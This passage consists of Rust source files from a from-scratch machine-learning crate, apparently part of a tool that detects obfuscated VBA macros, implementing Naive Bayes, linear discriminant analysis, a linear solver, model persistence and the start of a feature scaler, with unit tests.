//! From-scratch machine-learning classifiers, metrics and cross-validation.
//!
//! The paper evaluates five supervised classifiers (§IV.D): Random Forest,
//! SVM (RBF kernel, `C = 150`, `γ = 0.03`), Multi-Layer Perceptron, Linear
//! Discriminant Analysis and Bernoulli Naive Bayes — via scikit-learn. Rust
//! has no equivalent batteries-included stack (repro band: "ML crates
//! thin"), so this crate implements each from the algorithms the paper
//! cites, plus the evaluation machinery: accuracy / precision / recall /
//! Fβ (§V uses β=2), ROC curves with AUC, feature standardization and
//! stratified 10-fold cross-validation.
//!
//! Every classifier exposes a real-valued [`Classifier::decision_function`]
//! (positive ⇒ "obfuscated") so ROC/AUC is computed from scores rather than
//! hard labels.
//!
//! # Examples
//!
//! ```
//! use vbadet_ml::{Classifier, RandomForest};
//!
//! // A linearly separable toy problem.
//! let x: Vec<Vec<f64>> = (0..40).map(|i| vec![i as f64]).collect();
//! let y: Vec<bool> = (0..40).map(|i| i >= 20).collect();
//! let mut rf = RandomForest::new(25, 4);
//! rf.fit(&x, &y);
//! assert!(rf.predict(&[35.0]));
//! assert!(!rf.predict(&[3.0]));
//! ```

pub mod cv;
pub mod forest;
pub mod importance;
pub mod lda;
mod linalg;
pub mod metrics;
pub mod mlp;
pub mod nb;
pub mod persist;
pub mod scaler;
pub mod svm;
pub mod tree;

pub use cv::{cross_validate, stratified_kfold, CvOutcome};
pub use forest::RandomForest;
pub use importance::{permutation_importance, FeatureImportance};
pub use lda::LinearDiscriminant;
pub use metrics::{auc, f_beta, roc_curve, ConfusionMatrix};
pub use mlp::MlpClassifier;
pub use nb::BernoulliNb;
pub use scaler::StandardScaler;
pub use svm::SvmRbf;

/// A trained (or trainable) binary classifier.
///
/// Labels are `bool`: `true` is the positive class ("obfuscated").
///
/// `Send + Sync` is a supertrait: a boxed model must be shareable across
/// the scanning worker pool (every implementation is plain owned data, so
/// this costs nothing).
pub trait Classifier: Send + Sync {
    /// Fits the model to a training set.
    ///
    /// # Panics
    ///
    /// Implementations panic if `x` and `y` lengths differ or `x` is empty.
    fn fit(&mut self, x: &[Vec<f64>], y: &[bool]);

    /// A real-valued score, calibrated so that `score >= 0` means the
    /// positive class.
    fn decision_function(&self, x: &[f64]) -> f64;

    /// Hard prediction at the default threshold.
    fn predict(&self, x: &[f64]) -> bool {
        self.decision_function(x) >= 0.0
    }

    /// Short display name ("RF", "SVM", …).
    fn name(&self) -> &'static str;

    /// Serializes the fitted model to the crate's text format (see
    /// [`persist`]).
    ///
    /// # Panics
    ///
    /// Implementations panic when called before [`Classifier::fit`].
    fn save_text(&self) -> String;
}

/// The paper's five classifiers with its hyperparameters, in Table V order.
/// `seed` feeds the stochastic ones (RF bagging, MLP init).
pub fn paper_classifiers(seed: u64) -> Vec<Box<dyn Classifier>> {
    vec![
        Box::new(SvmRbf::new(150.0, 0.03)),
        Box::new(RandomForest::with_seed(100, 0, seed)),
        Box::new(MlpClassifier::with_seed(&[32], 200, 0.01, seed)),
        Box::new(LinearDiscriminant::new()),
        Box::new(BernoulliNb::new(1.0)),
    ]
}

pub(crate) fn validate_fit_input(x: &[Vec<f64>], y: &[bool]) {
    assert!(!x.is_empty(), "training set must be non-empty");
    assert_eq!(x.len(), y.len(), "feature/label length mismatch");
    let dim = x[0].len();
    assert!(
        x.iter().all(|row| row.len() == dim),
        "ragged feature matrix"
    );
}
