//! Bernoulli Naive Bayes (McCallum & Nigam 1998).
//!
//! Features are binarized against the training-set median per column; class
//! conditionals use Laplace smoothing. The decision score is the log odds
//! `log P(y=1|x) − log P(y=0|x)`.

use crate::Classifier;

/// Bernoulli Naive Bayes with additive smoothing `alpha`.
#[derive(Debug, Clone)]
pub struct BernoulliNb {
    alpha: f64,
    thresholds: Vec<f64>,
    /// log P(x_j = 1 | class) per class ([0] = negative, [1] = positive).
    log_p1: [Vec<f64>; 2],
    /// log P(x_j = 0 | class).
    log_p0: [Vec<f64>; 2],
    log_prior: [f64; 2],
    fitted: bool,
}

impl BernoulliNb {
    /// Creates an untrained classifier with smoothing `alpha` (> 0).
    ///
    /// # Panics
    ///
    /// Panics when `alpha <= 0`.
    pub fn new(alpha: f64) -> Self {
        assert!(alpha > 0.0, "alpha must be positive");
        BernoulliNb {
            alpha,
            thresholds: Vec::new(),
            log_p1: [Vec::new(), Vec::new()],
            log_p0: [Vec::new(), Vec::new()],
            log_prior: [0.0, 0.0],
            fitted: false,
        }
    }

    fn binarize(&self, x: &[f64]) -> Vec<bool> {
        x.iter().zip(&self.thresholds).map(|(v, t)| v > t).collect()
    }
}

fn median(values: &mut [f64]) -> f64 {
    values.sort_by(|a, b| a.partial_cmp(b).unwrap_or(std::cmp::Ordering::Equal));
    let n = values.len();
    if n % 2 == 1 {
        values[n / 2]
    } else {
        (values[n / 2 - 1] + values[n / 2]) / 2.0
    }
}

impl Classifier for BernoulliNb {
    // `class` indexes four parallel per-class arrays; the range form is
    // the clear one.
    #[allow(clippy::needless_range_loop)]
    fn fit(&mut self, x: &[Vec<f64>], y: &[bool]) {
        crate::validate_fit_input(x, y);
        let dim = x[0].len();
        let n = x.len() as f64;

        self.thresholds = (0..dim)
            .map(|j| {
                let mut col: Vec<f64> = x.iter().map(|row| row[j]).collect();
                median(&mut col)
            })
            .collect();

        let counts = [
            y.iter().filter(|&&t| !t).count() as f64,
            y.iter().filter(|&&t| t).count() as f64,
        ];
        // Smoothed priors keep single-class folds finite.
        self.log_prior = [
            ((counts[0] + self.alpha) / (n + 2.0 * self.alpha)).ln(),
            ((counts[1] + self.alpha) / (n + 2.0 * self.alpha)).ln(),
        ];

        for class in 0..2 {
            let mut ones = vec![0.0f64; dim];
            for (row, &label) in x.iter().zip(y) {
                if (label as usize) != class {
                    continue;
                }
                for (j, (&v, &t)) in row.iter().zip(&self.thresholds).enumerate() {
                    if v > t {
                        ones[j] += 1.0;
                    }
                }
            }
            let class_n = counts[class];
            self.log_p1[class] = ones
                .iter()
                .map(|&o| ((o + self.alpha) / (class_n + 2.0 * self.alpha)).ln())
                .collect();
            self.log_p0[class] = ones
                .iter()
                .map(|&o| ((class_n - o + self.alpha) / (class_n + 2.0 * self.alpha)).ln())
                .collect();
        }
        self.fitted = true;
    }

    fn decision_function(&self, x: &[f64]) -> f64 {
        assert!(self.fitted, "predict before fit");
        let bits = self.binarize(x);
        let mut log_odds = self.log_prior[1] - self.log_prior[0];
        for (j, &bit) in bits.iter().enumerate() {
            if bit {
                log_odds += self.log_p1[1][j] - self.log_p1[0][j];
            } else {
                log_odds += self.log_p0[1][j] - self.log_p0[0][j];
            }
        }
        log_odds
    }

    fn name(&self) -> &'static str {
        "BNB"
    }

    fn save_text(&self) -> String {
        self.to_text()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn learns_indicator_features() {
        // Feature 0 is the label indicator, feature 1 is noise.
        let mut x = Vec::new();
        let mut y = Vec::new();
        for i in 0..200 {
            let label = i % 2 == 0;
            x.push(vec![if label { 1.0 } else { 0.0 }, (i % 7) as f64]);
            y.push(label);
        }
        let mut nb = BernoulliNb::new(1.0);
        nb.fit(&x, &y);
        assert!(nb.predict(&[1.0, 3.0]));
        assert!(!nb.predict(&[0.0, 3.0]));
    }

    #[test]
    fn combines_weak_features() {
        // NB only consumes per-feature, per-class marginal counts, so exact
        // conditionals can be constructed directly: P(x_j=1 | +) = 0.8,
        // P(x_j=1 | -) = 0.2, equal priors.
        let mut x = Vec::new();
        let mut y = Vec::new();
        for i in 0..100 {
            x.push(vec![
                (i < 80) as u8 as f64,
                ((i + 27) % 100 < 80) as u8 as f64,
                ((i + 54) % 100 < 80) as u8 as f64,
            ]);
            y.push(true);
            x.push(vec![
                (i < 20) as u8 as f64,
                ((i + 27) % 100 < 20) as u8 as f64,
                ((i + 54) % 100 < 20) as u8 as f64,
            ]);
            y.push(false);
        }
        let mut nb = BernoulliNb::new(1.0);
        nb.fit(&x, &y);
        assert!(nb.predict(&[1.0, 1.0, 1.0]));
        assert!(!nb.predict(&[0.0, 0.0, 0.0]));
        // Majority of equally weak signals decides.
        assert!(nb.decision_function(&[1.0, 1.0, 0.0]) > 0.0);
        assert!(nb.decision_function(&[0.0, 0.0, 1.0]) < 0.0);
    }

    #[test]
    fn priors_shift_the_default_prediction() {
        // 90% positive class, uninformative features.
        let x: Vec<Vec<f64>> = (0..100).map(|_| vec![0.5]).collect();
        let y: Vec<bool> = (0..100).map(|i| i < 90).collect();
        let mut nb = BernoulliNb::new(1.0);
        nb.fit(&x, &y);
        assert!(nb.predict(&[0.5]), "prior favors the majority class");
    }

    #[test]
    fn single_class_training_is_finite() {
        let x = vec![vec![1.0], vec![0.0]];
        let mut nb = BernoulliNb::new(1.0);
        nb.fit(&x, &[true, true]);
        assert!(nb.decision_function(&[1.0]).is_finite());
        assert!(nb.predict(&[0.0]));
    }

    #[test]
    fn median_handles_even_and_odd() {
        assert_eq!(median(&mut [3.0, 1.0, 2.0]), 2.0);
        assert_eq!(median(&mut [4.0, 1.0, 2.0, 3.0]), 2.5);
        assert_eq!(median(&mut [7.0]), 7.0);
    }

    #[test]
    #[should_panic(expected = "alpha")]
    fn invalid_alpha_rejected() {
        let _ = BernoulliNb::new(0.0);
    }
}

// --- persistence ---------------------------------------------------------

impl BernoulliNb {
    /// Serializes the fitted model to text.
    ///
    /// # Panics
    ///
    /// Panics if called before [`Classifier::fit`].
    pub fn to_text(&self) -> String {
        assert!(self.fitted, "save before fit");
        let mut w = crate::persist::Writer::new("bnb");
        w.floats("alpha", &[self.alpha]);
        w.floats("thresholds", &self.thresholds);
        w.floats("prior", &self.log_prior);
        w.floats("p1_neg", &self.log_p1[0]);
        w.floats("p1_pos", &self.log_p1[1]);
        w.floats("p0_neg", &self.log_p0[0]);
        w.floats("p0_pos", &self.log_p0[1]);
        w.finish()
    }

    /// Restores a model saved by [`BernoulliNb::to_text`].
    ///
    /// # Errors
    ///
    /// Fails on malformed or truncated text.
    pub fn from_text(text: &str) -> Result<Self, crate::persist::PersistError> {
        let mut r = crate::persist::Reader::open(text, "bnb")?;
        let alpha = r.floats("alpha")?;
        let thresholds = r.floats("thresholds")?;
        let prior = r.floats("prior")?;
        let p1_neg = r.floats("p1_neg")?;
        let p1_pos = r.floats("p1_pos")?;
        let p0_neg = r.floats("p0_neg")?;
        let p0_pos = r.floats("p0_pos")?;
        let dim = thresholds.len();
        if alpha.len() != 1
            || prior.len() != 2
            || [&p1_neg, &p1_pos, &p0_neg, &p0_pos]
                .iter()
                .any(|v| v.len() != dim)
        {
            return Err(crate::persist::PersistError {
                line: 0,
                reason: "inconsistent table lengths".to_string(),
            });
        }
        Ok(BernoulliNb {
            alpha: alpha[0],
            thresholds,
            log_p1: [p1_neg, p1_pos],
            log_p0: [p0_neg, p0_pos],
            log_prior: [prior[0], prior[1]],
            fitted: true,
        })
    }
}

#[cfg(test)]
mod persist_tests {
    use super::*;
    use crate::Classifier;

    #[test]
    fn save_load_roundtrip_is_exact() {
        let x: Vec<Vec<f64>> = (0..100)
            .map(|i| vec![(i % 2) as f64, (i % 5) as f64])
            .collect();
        let y: Vec<bool> = (0..100).map(|i| i % 2 == 0).collect();
        let mut nb = BernoulliNb::new(1.0);
        nb.fit(&x, &y);
        let loaded = BernoulliNb::from_text(&nb.to_text()).unwrap();
        for row in &x {
            assert_eq!(
                nb.decision_function(row).to_bits(),
                loaded.decision_function(row).to_bits()
            );
        }
    }
}
