//! Two-class Linear Discriminant Analysis (Fisher 1936; Mika et al. 1999).
//!
//! Assumes classes share a covariance matrix: the discriminant direction is
//! `w = Σ⁻¹ (μ₊ − μ₋)` with threshold at the log-prior-adjusted midpoint.

use crate::linalg::solve;
use crate::Classifier;

/// Fitted linear discriminant.
#[derive(Debug, Clone, Default)]
pub struct LinearDiscriminant {
    weights: Vec<f64>,
    threshold: f64,
    fitted: bool,
    /// Constant fallback when training degenerates (single class).
    constant: Option<bool>,
}

impl LinearDiscriminant {
    /// Creates an untrained LDA classifier.
    pub fn new() -> Self {
        Self::default()
    }
}

impl Classifier for LinearDiscriminant {
    // Triangular covariance fill: paired i/j indexing is the clear form.
    #[allow(clippy::needless_range_loop)]
    fn fit(&mut self, x: &[Vec<f64>], y: &[bool]) {
        crate::validate_fit_input(x, y);
        let dim = x[0].len();
        let n_pos = y.iter().filter(|&&t| t).count();
        let n_neg = y.len() - n_pos;
        if n_pos == 0 || n_neg == 0 {
            self.constant = Some(n_pos > 0);
            self.fitted = true;
            return;
        }
        self.constant = None;

        let mut mu_pos = vec![0.0; dim];
        let mut mu_neg = vec![0.0; dim];
        for (row, &label) in x.iter().zip(y) {
            let mu = if label { &mut mu_pos } else { &mut mu_neg };
            for (m, v) in mu.iter_mut().zip(row) {
                *m += v;
            }
        }
        for m in mu_pos.iter_mut() {
            *m /= n_pos as f64;
        }
        for m in mu_neg.iter_mut() {
            *m /= n_neg as f64;
        }

        // Pooled within-class covariance with a ridge for stability.
        let mut cov = vec![vec![0.0; dim]; dim];
        for (row, &label) in x.iter().zip(y) {
            let mu = if label { &mu_pos } else { &mu_neg };
            for i in 0..dim {
                let di = row[i] - mu[i];
                for j in i..dim {
                    let dj = row[j] - mu[j];
                    cov[i][j] += di * dj;
                }
            }
        }
        let denom = (y.len() - 2).max(1) as f64;
        for i in 0..dim {
            for j in i..dim {
                cov[i][j] /= denom;
                cov[j][i] = cov[i][j];
            }
        }
        let ridge = 1e-6;
        for (i, row) in cov.iter_mut().enumerate() {
            row[i] += ridge;
        }

        let diff: Vec<f64> = mu_pos.iter().zip(&mu_neg).map(|(p, n)| p - n).collect();
        let weights = solve(&cov, &diff).unwrap_or_else(|| {
            // Numerically singular even with ridge: fall back to the mean
            // difference direction.
            diff.clone()
        });

        // Threshold: w·(μ₊+μ₋)/2 − ln(π₊/π₋).
        let midpoint: f64 = weights
            .iter()
            .zip(mu_pos.iter().zip(&mu_neg))
            .map(|(w, (p, n))| w * (p + n) / 2.0)
            .sum();
        let prior = ((n_pos as f64) / (n_neg as f64)).ln();
        self.threshold = midpoint - prior;
        self.weights = weights;
        self.fitted = true;
    }

    fn decision_function(&self, x: &[f64]) -> f64 {
        assert!(self.fitted, "predict before fit");
        if let Some(c) = self.constant {
            return if c { 1.0 } else { -1.0 };
        }
        let wx: f64 = self.weights.iter().zip(x).map(|(w, v)| w * v).sum();
        wx - self.threshold
    }

    fn name(&self) -> &'static str {
        "LDA"
    }

    fn save_text(&self) -> String {
        self.to_text()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn gaussian_blobs(n: usize, sep: f64) -> (Vec<Vec<f64>>, Vec<bool>) {
        // Deterministic pseudo-noise.
        let mut state = 123u64;
        let mut noise = || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            ((state % 2000) as f64 / 1000.0 - 1.0) * 0.8
        };
        let mut x = Vec::new();
        let mut y = Vec::new();
        for _ in 0..n {
            x.push(vec![noise(), noise()]);
            y.push(false);
            x.push(vec![sep + noise(), sep + noise()]);
            y.push(true);
        }
        (x, y)
    }

    #[test]
    fn separates_gaussian_blobs() {
        let (x, y) = gaussian_blobs(200, 4.0);
        let mut lda = LinearDiscriminant::new();
        lda.fit(&x, &y);
        let correct = x
            .iter()
            .zip(&y)
            .filter(|(xi, &yi)| lda.predict(xi) == yi)
            .count();
        assert!(correct as f64 / x.len() as f64 > 0.99);
    }

    #[test]
    fn boundary_is_near_the_midpoint() {
        let (x, y) = gaussian_blobs(200, 4.0);
        let mut lda = LinearDiscriminant::new();
        lda.fit(&x, &y);
        // Means are ~(0,0) and ~(4,4): midpoint (2,2) should score near 0.
        let mid = lda.decision_function(&[2.0, 2.0]);
        let pos = lda.decision_function(&[4.0, 4.0]);
        let neg = lda.decision_function(&[0.0, 0.0]);
        assert!(mid.abs() < pos.abs() && mid.abs() < neg.abs());
        assert!(pos > 0.0 && neg < 0.0);
    }

    #[test]
    fn correlated_features_are_handled() {
        // Class difference along a direction masked by strong correlation;
        // naive mean-difference would misweight it.
        let mut x = Vec::new();
        let mut y = Vec::new();
        let mut state = 5u64;
        let mut noise = || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state % 2000) as f64 / 1000.0 - 1.0
        };
        for _ in 0..300 {
            let shared = noise() * 5.0;
            x.push(vec![shared, shared + noise() * 0.2]);
            y.push(false);
            let shared = noise() * 5.0;
            x.push(vec![shared, shared + 1.0 + noise() * 0.2]);
            y.push(true);
        }
        let mut lda = LinearDiscriminant::new();
        lda.fit(&x, &y);
        let correct = x
            .iter()
            .zip(&y)
            .filter(|(xi, &yi)| lda.predict(xi) == yi)
            .count();
        assert!(
            correct as f64 / x.len() as f64 > 0.95,
            "LDA must exploit covariance: {correct}/{}",
            x.len()
        );
    }

    #[test]
    fn single_class_fallback() {
        let mut lda = LinearDiscriminant::new();
        lda.fit(&[vec![1.0], vec![2.0]], &[true, true]);
        assert!(lda.predict(&[5.0]));
    }

    #[test]
    #[should_panic(expected = "predict before fit")]
    fn unfitted_predict_panics() {
        let lda = LinearDiscriminant::new();
        let _ = lda.decision_function(&[0.0]);
    }
}

// --- persistence ---------------------------------------------------------

impl LinearDiscriminant {
    /// Serializes the fitted discriminant to text.
    ///
    /// # Panics
    ///
    /// Panics if called before [`Classifier::fit`].
    pub fn to_text(&self) -> String {
        assert!(self.fitted, "save before fit");
        let mut w = crate::persist::Writer::new("lda");
        let constant = match self.constant {
            None => 0i64,
            Some(false) => 1,
            Some(true) => 2,
        };
        w.ints("constant", &[constant]);
        w.floats("weights", &self.weights);
        w.floats("threshold", &[self.threshold]);
        w.finish()
    }

    /// Restores a discriminant saved by [`LinearDiscriminant::to_text`].
    ///
    /// # Errors
    ///
    /// Fails on malformed or truncated text.
    pub fn from_text(text: &str) -> Result<Self, crate::persist::PersistError> {
        let mut r = crate::persist::Reader::open(text, "lda")?;
        let constant = match r.int("constant")? {
            0 => None,
            1 => Some(false),
            2 => Some(true),
            other => {
                return Err(crate::persist::PersistError {
                    line: 2,
                    reason: format!("bad constant flag {other}"),
                })
            }
        };
        let weights = r.floats("weights")?;
        let threshold = r.floats("threshold")?;
        if threshold.len() != 1 {
            return Err(crate::persist::PersistError {
                line: 0,
                reason: "threshold needs one value".to_string(),
            });
        }
        Ok(LinearDiscriminant {
            weights,
            threshold: threshold[0],
            fitted: true,
            constant,
        })
    }
}

#[cfg(test)]
mod persist_tests {
    use super::*;
    use crate::Classifier;

    #[test]
    fn save_load_roundtrip_is_exact() {
        let x: Vec<Vec<f64>> = (0..60)
            .map(|i| vec![i as f64, -0.5 * i as f64 + 3.0])
            .collect();
        let y: Vec<bool> = (0..60).map(|i| i >= 30).collect();
        let mut lda = LinearDiscriminant::new();
        lda.fit(&x, &y);
        let loaded = LinearDiscriminant::from_text(&lda.to_text()).unwrap();
        for row in &x {
            assert_eq!(
                lda.decision_function(row).to_bits(),
                loaded.decision_function(row).to_bits()
            );
        }
    }

    #[test]
    fn constant_fallback_roundtrips() {
        let mut lda = LinearDiscriminant::new();
        lda.fit(&[vec![1.0]], &[true]);
        let loaded = LinearDiscriminant::from_text(&lda.to_text()).unwrap();
        assert!(loaded.predict(&[0.0]));
    }
}
