//! Minimal dense linear algebra: solving `A x = b` for the small symmetric
//! systems LDA needs (d ≤ 20 here).

/// Solves `A x = b` by Gaussian elimination with partial pivoting.
/// `a` is row-major `n × n`. Returns `None` for (numerically) singular `A`.
// Gaussian elimination touches two rows of `m` at once; index form avoids
// split-borrow gymnastics.
#[allow(clippy::needless_range_loop)]
pub fn solve(a: &[Vec<f64>], b: &[f64]) -> Option<Vec<f64>> {
    let n = b.len();
    assert_eq!(a.len(), n);
    assert!(a.iter().all(|row| row.len() == n));

    let mut m: Vec<Vec<f64>> = a.to_vec();
    let mut rhs = b.to_vec();

    for col in 0..n {
        // Partial pivot.
        let pivot_row = (col..n)
            .max_by(|&i, &j| {
                m[i][col]
                    .abs()
                    .partial_cmp(&m[j][col].abs())
                    .unwrap_or(std::cmp::Ordering::Equal)
            })
            .expect("non-empty range");
        if m[pivot_row][col].abs() < 1e-12 {
            return None;
        }
        m.swap(col, pivot_row);
        rhs.swap(col, pivot_row);

        for row in col + 1..n {
            let factor = m[row][col] / m[col][col];
            if factor == 0.0 {
                continue;
            }
            for k in col..n {
                m[row][k] -= factor * m[col][k];
            }
            rhs[row] -= factor * rhs[col];
        }
    }

    // Back substitution.
    let mut x = vec![0.0; n];
    for row in (0..n).rev() {
        let mut sum = rhs[row];
        for col in row + 1..n {
            sum -= m[row][col] * x[col];
        }
        x[row] = sum / m[row][row];
    }
    Some(x)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn identity_system() {
        let a = vec![vec![1.0, 0.0], vec![0.0, 1.0]];
        assert_eq!(solve(&a, &[3.0, 4.0]).unwrap(), vec![3.0, 4.0]);
    }

    #[test]
    fn known_system() {
        // 2x + y = 5; x + 3y = 10  =>  x = 1, y = 3.
        let a = vec![vec![2.0, 1.0], vec![1.0, 3.0]];
        let x = solve(&a, &[5.0, 10.0]).unwrap();
        assert!((x[0] - 1.0).abs() < 1e-10);
        assert!((x[1] - 3.0).abs() < 1e-10);
    }

    #[test]
    fn needs_pivoting() {
        // Leading zero forces a row swap.
        let a = vec![vec![0.0, 1.0], vec![1.0, 0.0]];
        let x = solve(&a, &[2.0, 7.0]).unwrap();
        assert_eq!(x, vec![7.0, 2.0]);
    }

    #[test]
    fn singular_detected() {
        let a = vec![vec![1.0, 2.0], vec![2.0, 4.0]];
        assert!(solve(&a, &[1.0, 2.0]).is_none());
    }

    #[test]
    fn residual_is_small_for_random_spd_system() {
        // A = M Mᵀ + I is symmetric positive definite.
        let n = 12;
        let mut state = 42u64;
        let mut rnd = || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state % 1000) as f64 / 500.0 - 1.0
        };
        let m: Vec<Vec<f64>> = (0..n).map(|_| (0..n).map(|_| rnd()).collect()).collect();
        let mut a = vec![vec![0.0; n]; n];
        for i in 0..n {
            for j in 0..n {
                for k in 0..n {
                    a[i][j] += m[i][k] * m[j][k];
                }
            }
            a[i][i] += 1.0;
        }
        let b: Vec<f64> = (0..n).map(|_| rnd()).collect();
        let x = solve(&a, &b).unwrap();
        for i in 0..n {
            let ax: f64 = (0..n).map(|j| a[i][j] * x[j]).sum();
            assert!((ax - b[i]).abs() < 1e-8, "row {i}: {ax} vs {}", b[i]);
        }
    }
}
