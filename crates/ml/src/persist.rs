//! Minimal self-describing text serialization for trained models.
//!
//! A deliberately simple line-oriented format (`key value…` records, `f64`
//! as `to_bits` hex for exact roundtrips) so trained detectors can be saved
//! and reloaded without pulling a serialization framework into the
//! dependency tree. Not a stability-guaranteed interchange format.

use std::fmt::Write as _;

/// Error from [`Reader`] parsing.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PersistError {
    /// 1-based line of the failure.
    pub line: usize,
    /// What went wrong.
    pub reason: String,
}

impl std::fmt::Display for PersistError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "model parse error at line {}: {}",
            self.line, self.reason
        )
    }
}

impl std::error::Error for PersistError {}

/// Writes records.
#[derive(Debug, Default)]
pub struct Writer {
    out: String,
}

impl Writer {
    /// Creates a writer with a format header.
    pub fn new(kind: &str) -> Self {
        let mut w = Writer::default();
        let _ = writeln!(w.out, "vbadet-model {kind} v1");
        w
    }

    /// Writes a record: a tag followed by whitespace-separated fields.
    pub fn record(&mut self, tag: &str, fields: &[String]) -> &mut Self {
        let _ = write!(self.out, "{tag}");
        for f in fields {
            let _ = write!(self.out, " {f}");
        }
        let _ = writeln!(self.out);
        self
    }

    /// Writes a tag plus a list of f64 values (bit-exact).
    pub fn floats(&mut self, tag: &str, values: &[f64]) -> &mut Self {
        let fields: Vec<String> = values
            .iter()
            .map(|v| format!("{:016x}", v.to_bits()))
            .collect();
        self.record(tag, &fields)
    }

    /// Writes a tag plus a list of integers.
    pub fn ints(&mut self, tag: &str, values: &[i64]) -> &mut Self {
        let fields: Vec<String> = values.iter().map(|v| v.to_string()).collect();
        self.record(tag, &fields)
    }

    /// The serialized text.
    pub fn finish(self) -> String {
        self.out
    }
}

/// Reads records sequentially.
#[derive(Debug)]
pub struct Reader<'a> {
    lines: std::iter::Enumerate<std::str::Lines<'a>>,
}

impl<'a> Reader<'a> {
    /// Opens serialized text, checking the header kind.
    ///
    /// # Errors
    ///
    /// Fails when the header is missing or names a different model kind.
    pub fn open(text: &'a str, kind: &str) -> Result<Self, PersistError> {
        let mut lines = text.lines().enumerate();
        match lines.next() {
            Some((_, header)) if header == format!("vbadet-model {kind} v1") => {
                Ok(Reader { lines })
            }
            Some((i, header)) => Err(PersistError {
                line: i + 1,
                reason: format!("bad header {header:?}, expected kind {kind:?}"),
            }),
            None => Err(PersistError {
                line: 1,
                reason: "empty model text".to_string(),
            }),
        }
    }

    /// Reads the next record, expecting `tag`; returns its fields.
    ///
    /// # Errors
    ///
    /// Fails at end of input or on a tag mismatch.
    pub fn record(&mut self, tag: &str) -> Result<(usize, Vec<&'a str>), PersistError> {
        match self.lines.next() {
            None => Err(PersistError {
                line: 0,
                reason: format!("unexpected end of model, expected {tag:?}"),
            }),
            Some((i, line)) => {
                let mut parts = line.split_whitespace();
                let found = parts.next().unwrap_or("");
                if found != tag {
                    return Err(PersistError {
                        line: i + 1,
                        reason: format!("expected record {tag:?}, found {found:?}"),
                    });
                }
                Ok((i + 1, parts.collect()))
            }
        }
    }

    /// Reads the next record, which must carry one of `tags`; returns
    /// `(line, (tag, fields))`.
    ///
    /// # Errors
    ///
    /// Fails at end of input or when the tag is not in `tags`.
    pub fn any_record(
        &mut self,
        tags: &[&str],
    ) -> Result<(usize, (&'a str, Vec<&'a str>)), PersistError> {
        match self.lines.next() {
            None => Err(PersistError {
                line: 0,
                reason: format!("unexpected end of model, expected one of {tags:?}"),
            }),
            Some((i, line)) => {
                let mut parts = line.split_whitespace();
                let found = parts.next().unwrap_or("");
                if !tags.contains(&found) {
                    return Err(PersistError {
                        line: i + 1,
                        reason: format!("expected one of {tags:?}, found {found:?}"),
                    });
                }
                Ok((i + 1, (found, parts.collect())))
            }
        }
    }

    /// Reads a record of f64 values.
    pub fn floats(&mut self, tag: &str) -> Result<Vec<f64>, PersistError> {
        let (line, fields) = self.record(tag)?;
        fields
            .iter()
            .map(|f| {
                u64::from_str_radix(f, 16)
                    .map(f64::from_bits)
                    .map_err(|e| PersistError {
                        line,
                        reason: format!("bad float {f:?}: {e}"),
                    })
            })
            .collect()
    }

    /// Reads a record of i64 values.
    pub fn ints(&mut self, tag: &str) -> Result<Vec<i64>, PersistError> {
        let (line, fields) = self.record(tag)?;
        fields
            .iter()
            .map(|f| {
                f.parse::<i64>().map_err(|e| PersistError {
                    line,
                    reason: format!("bad int {f:?}: {e}"),
                })
            })
            .collect()
    }

    /// Reads a record expected to hold exactly one integer.
    pub fn int(&mut self, tag: &str) -> Result<i64, PersistError> {
        let values = self.ints(tag)?;
        match values.as_slice() {
            [v] => Ok(*v),
            other => Err(PersistError {
                line: 0,
                reason: format!("{tag}: expected one value, got {}", other.len()),
            }),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip_floats_bit_exact() {
        let values = [0.1, -0.0, f64::MIN_POSITIVE, 1e300, -123.456, 0.0];
        let mut w = Writer::new("test");
        w.floats("vals", &values);
        let text = w.finish();
        let mut r = Reader::open(&text, "test").unwrap();
        let back = r.floats("vals").unwrap();
        assert_eq!(back.len(), values.len());
        for (a, b) in values.iter().zip(&back) {
            assert_eq!(a.to_bits(), b.to_bits());
        }
    }

    #[test]
    fn header_kind_checked() {
        let text = Writer::new("alpha").finish();
        assert!(Reader::open(&text, "alpha").is_ok());
        assert!(Reader::open(&text, "beta").is_err());
        assert!(Reader::open("", "alpha").is_err());
        assert!(Reader::open("garbage\n", "alpha").is_err());
    }

    #[test]
    fn tag_mismatch_reported_with_line() {
        let mut w = Writer::new("t");
        w.ints("a", &[1]);
        let text = w.finish();
        let mut r = Reader::open(&text, "t").unwrap();
        let err = r.ints("b").unwrap_err();
        assert_eq!(err.line, 2);
    }

    #[test]
    fn truncated_input_reported() {
        let text = Writer::new("t").finish();
        let mut r = Reader::open(&text, "t").unwrap();
        assert!(r.ints("missing").is_err());
    }

    #[test]
    fn ints_and_single_int() {
        let mut w = Writer::new("t");
        w.ints("many", &[1, -2, 3]).ints("one", &[42]);
        let text = w.finish();
        let mut r = Reader::open(&text, "t").unwrap();
        assert_eq!(r.ints("many").unwrap(), vec![1, -2, 3]);
        assert_eq!(r.int("one").unwrap(), 42);
    }
}
