//! Feature standardization (zero mean, unit variance per column).

/// Per-feature standardizer fitted on a training set, applied to any
/// vector. Constant features map to zero (their variance floor prevents
/// division by zero).
///
/// ```
/// use vbadet_ml::StandardScaler;
/// let scaler = StandardScaler::fit(&[vec![1.0, 10.0], vec![3.0, 10.0]]);
/// assert_eq!(scaler.transform(&[2.0, 10.0]), vec![0.0, 0.0]);
/// ```
#[derive(Debug, Clone, PartialEq)]
pub struct StandardScaler {
    mean: Vec<f64>,
    std: Vec<f64>,
}

impl StandardScaler {
    /// Fits column means and standard deviations.
    ///
    /// # Panics
    ///
    /// Panics on an empty or ragged matrix.
    pub fn fit(x: &[Vec<f64>]) -> Self {
        assert!(!x.is_empty(), "cannot fit scaler on empty data");
        let dim = x[0].len();
        assert!(x.iter().all(|r| r.len() == dim), "ragged feature matrix");
        let n = x.len() as f64;
        let mut mean = vec![0.0; dim];
        for row in x {
            for (m, v) in mean.iter_mut().zip(row) {
                *m += v;
            }
        }
        for m in mean.iter_mut() {
            *m /= n;
        }
        let mut var = vec![0.0; dim];
        for row in x {
